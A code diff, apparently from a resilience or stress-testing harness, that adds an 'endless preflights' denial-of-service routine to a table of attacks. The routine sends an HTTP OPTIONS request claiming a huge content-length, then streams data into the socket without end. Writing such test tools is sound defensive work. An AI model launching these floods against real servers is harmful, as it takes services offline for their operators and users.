@@ -286,6 +286,19 @@ async function byteRanges(owner: Owner): Promise<void> {
   onConnections(ADDRESS_REQUESTS, targets.gateway, ask.repeat(10));
 }
 
+/** Sends a preflight with a body without an end, as fast as it is read. */
+function endlessPreflights(): void {
+  const piece = Buffer.alloc(1 << 16);
+  keepOpen((socket) => {
+    const pump = () => {
+      while (socket.writable && socket.write(piece));
+    };
+    socket.resume().on('drain', pump);
+    socket.write(`OPTIONS / HTTP/1.1\r\nhost: ${url.host}\r\ncontent-length: ${10 ** 15}\r\n\r\n`);
+    pump();
+  });
+}
+
 const once = (start: () => void) => (key: string) => {
   if (key === keys[0]) start();
 };
@@ -304,6 +317,7 @@ const ATTACKS: Readonly<Record<string, (key: string) => void | Promise<void>>> =
   'slow bodies': slowBodies,
   'endless sockets': openSockets,
   'WebSocket frames': floodFrames,
+  'endless preflights': endlessPreflights,
   'upgrade offers': once(() => {
     fromNobody(offer('/livez'), false);
   }),
